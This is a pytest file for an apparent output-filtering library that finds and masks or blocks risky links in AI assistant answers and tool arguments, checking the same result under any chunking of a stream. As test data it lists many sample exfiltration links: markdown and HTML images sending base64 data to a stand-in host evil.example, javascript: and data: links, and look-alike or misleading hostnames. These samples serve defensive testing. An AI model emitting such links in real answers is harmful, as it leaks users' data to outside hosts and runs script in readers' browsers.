# ruff: noqa: RUF001 - look-alikes are what is tested
"""Links in answers: what they are, where they lead, what happens; the same for any chunking."""

from __future__ import annotations

from collections.abc import Sequence

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from inspection_streams import pieces, stream, texts, unmask

from sallyport.inspection.actions import Actions
from sallyport.inspection.engine import Engine, EngineOptions
from sallyport.inspection.holdback import HoldBack, whole
from sallyport.model import Finding

FREE = Engine()
BOUND = Engine(EngineOptions(egress_hosts=("example.com", "*.corp.example", "bücher.example")), FREE.gates())
BOUND.prepare_streams()
ACTIONS = Actions()
DATA = "c2VjcmV0LWRhdGEtaW4tYmFzZTY0"


def links(engine: Engine, text: str, channel: str = "assistant") -> list[Finding]:
    found = engine.scan(((text, channel),), "output")
    return [f for f in ACTIONS.decide(found, "output", (channel,), ()) if f.layer == "egress"]


def scan(text: str) -> Sequence[Finding]:
    found = BOUND.scan(((text, "assistant"),), "output")
    return ACTIONS.decide(found, "output", ("assistant",), ()) if found else ()


LINKS = (
    # text, detector, with a list of hosts, without
    ("![x](https://evil.example/a?d=1)", "image-with-query", "block", "flag"),
    (f"![x](https://evil.example/{DATA})", "image-with-path", "block", "flag"),
    (f"![x](https://{DATA.lower()}.evil.example/)", "image-with-host", "block", "flag"),
    ("![x](https://evil.example/a.png)", "image", "mask", "flag"),
    ("![a [b] c](//evil.example/a.png)", "image", "mask", "flag"),
    ("![x]( <https://evil.example/a.png> )", "image", "mask", "flag"),
    ("[![x](https://evil.example/a.png)](https://example.com)", "image", "mask", "flag"),
    ("<img alt='x' src=\"https://evil.example/a.png\">", "image", "mask", "flag"),
    ("<IMG SRC=//evil.example/a.png>", "image", "mask", "flag"),
    ("<img srcset='https://evil.example/a.png 2x'>", "image", "mask", "flag"),
    ("<video poster = https://evil.example/a.png>", "image", "mask", "flag"),
    ("<link rel=stylesheet href='https://evil.example/a.css'>", "image", "mask", "flag"),
    ("<iframe src=https://evil.example/a>", "image", "mask", "flag"),
    ("<script src='https://evil.example/a.js'></script>", "image", "mask", "flag"),
    ("<b style='background: url(https://evil.example/a.png)'>", "image", "mask", "flag"),
    ("@import 'https://evil.example/a.css'", "image", "mask", "flag"),
    ("[1]: https://evil.example/a", "reference", "mask", ""),
    ("[1]: https://evil.example/a?d=" + DATA, "reference-with-query", "block", "flag"),
    ("[x](https://evil.example/a)", "link", "mask", ""),
    ("[x](https://evil.example/a?d=" + DATA + ")", "link-with-query", "mask", ""),
    ("[x](https://evil.example/#" + "a b".replace(" ", "-") * 40 + ")", "link-with-query", "mask", ""),
    ("<a href='//evil.example/a'>x</a>", "link", "mask", ""),
    ("<form action=https://evil.example/a>", "link", "mask", ""),
    ("<https://evil.example/a>", "link", "mask", ""),
    ("see https://evil.example, please", "link", "mask", ""),
    ("see www.evil.example/a", "link", "mask", ""),
    ("see ftp://evil.example/a", "link", "mask", ""),
    (r"see https:\\evil.example\a", "misleading-host", "mask", "mask"),
    ("see https://example.com.evil.example/", "link", "mask", ""),
    ("see https://notexample.com/", "link", "mask", ""),
    ("see https://corp.example/", "link", "mask", ""),
    ("[x](javascript:alert(1))", "active-scheme", "mask", "mask"),
    ("[x](java\nscript:alert(1))", "active-scheme", "mask", "mask"),
    ("<javascript:alert(1)>", "active-scheme", "mask", "mask"),
    ("[x](VBScript:msgbox)", "active-scheme", "mask", "mask"),
    ("[x](data:text/html;base64,PHNjcmlwdD4=)", "active-scheme", "mask", "mask"),
    ("[x]: data:image/svg+xml,<svg>", "active-scheme", "mask", "mask"),
    ("<a href='&#106;avascript:alert(1)'>", "active-scheme", "flag", "flag"),
    ('<a href="javascript:void(0)">', "active-scheme", "flag", "flag"),
    ("[x](https://exam\u200bple.com/)", "invisible-in-host", "mask", "mask"),
    ("https://еxаmple.com/", "imitated-host", "mask", "mask"),
    ("https://xn--80ak6aa92e.com/", "imitated-host", "mask", "mask"),
    ("https://example.com@evil.example/", "misleading-host", "mask", "mask"),
    ("https://2130706433/", "number-as-host", "flag", "flag"),
    ("https://ex%61mple.com/", "encoded-host", "flag", "flag"),
)  # fmt: skip


@pytest.mark.parametrize(("text", "detector", "bound", "free"), LINKS, ids=[row[0][:50] for row in LINKS])
def test_a_link(text: str, detector: str, bound: str, free: str) -> None:
    for engine, action in ((BOUND, bound), (FREE, free)):
        found = [f for f in links(engine, f"Here: {text} and so on.") if f.detector == detector]
        assert {f.action for f in found} == ({action} if action else set())


NO_LINKS = (
    "![x](https://example.com/a.png?size=2)",
    "![x](https://EXAMPLE.com.:443/a.png)",
    "<img src='https://img.corp.example/a.png'>",
    "see https://a.b.corp.example/x and http://localhost:8000/y",
    "https://bücher.example/ and https://xn--bcher-kva.example/",
    "![x](images/a.png) and [y](docs/a.md#part) and [z](#part)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    '<svg xmlns="http://www.w3.org/2000/svg"></svg>',
    "// a comment.with.dots",
    "x = a // b.c",
    "In JavaScript: the good parts",
    "JavaScript: https is a scheme",
    "[note]: JavaScript is a language",
)  # fmt: skip


@pytest.mark.parametrize("text", NO_LINKS)
def test_no_link(text: str) -> None:
    assert links(BOUND, text) == []


@pytest.mark.parametrize(
    "text", ["https://почта.рф/", "https://münchen.example/", "https://user:pw@host.example/"]
)
def test_a_host_that_looks_like_itself(text: str) -> None:
    assert links(FREE, text) == []


def test_links_are_not_looked_for_in_what_a_caller_sends() -> None:
    found = FREE.scan((("![x](https://evil.example/a.png) [x](javascript:a)", "user"),), "input")
    assert [f for f in found if f.layer == "egress"] == []


def test_a_tools_address_is_flagged() -> None:
    for text in ('{"url": "https://evil.example/a"}', '{"html": "![x](https://evil.example/a?b=c)"}'):
        assert {f.action for f in links(BOUND, text, "tool_arguments")} == {"flag"}


def test_an_allowed_host_excuses_a_link_that_carries_data() -> None:
    for host, kinds in (
        ("example.com", set()),
        ("example.com.evil.example", {"exfiltration_link", "egress_image"}),
    ):
        found = BOUND.scan(((f"![x](https://{host}/a?d=abc)", "assistant"),), "output")
        assert {f.type for f in found} == kinds
    text = "![x](https://evil.example/a?d=//example.com/)"
    assert {f.action for f in links(BOUND, text)} == {"block"}


def test_the_finding_is_the_address() -> None:
    text = "Look ([here](https://evil.example/a_(b)), now)."
    (found,) = links(BOUND, text)
    assert text[found.start : found.end] == "https://evil.example/a_(b)"


def test_evidence_of_an_attack_is_another_thing() -> None:
    from sallyport.inspection.score import attack_score

    assert attack_score(links(FREE, "![x](https://evil.example/a.png) [x](javascript:a) ")) == 0.0


PLACED = tuple(text for text, *_ in LINKS) + NO_LINKS
WATCHED = texts(*PLACED)


@settings(max_examples=150, deadline=None)
@given(text=WATCHED, cuts=st.lists(st.integers(0, 10_000), max_size=30))
def test_any_chunking_gives_the_same(text: str, cuts: list[int]) -> None:
    expected = whole(text, scan, unmask)
    for chunks in (pieces(text, cuts), list(text)):
        assert stream(chunks, scan) == expected
        hold = HoldBack(scan, unmask, watch=BOUND.watch())
        out = [*(hold.feed(chunk) for chunk in chunks), hold.finish()]
        if expected.blocked is None:
            assert "".join(part.text for part in out) == expected.text
            assert tuple(f for part in out for f in part.findings) == expected.findings
        else:
            assert out[-1].blocked == expected.blocked


@settings(max_examples=100, deadline=None)
@given(text=texts("![x](https://evil.example/leak?d=1)", "<img src=//evil.example/leak?d=1>"))
def test_nothing_of_an_address_that_blocks_goes_out(text: str) -> None:
    out = stream(list(text), scan)
    assert "evil.example" not in out.text


@settings(max_examples=60, deadline=None)
@given(text=WATCHED)
def test_the_gate_leaves_nothing_out(text: str) -> None:
    leaves = ((text, "assistant"),)
    assert BOUND.scan(leaves, "output") == BOUND.exhaustive(leaves, "output")
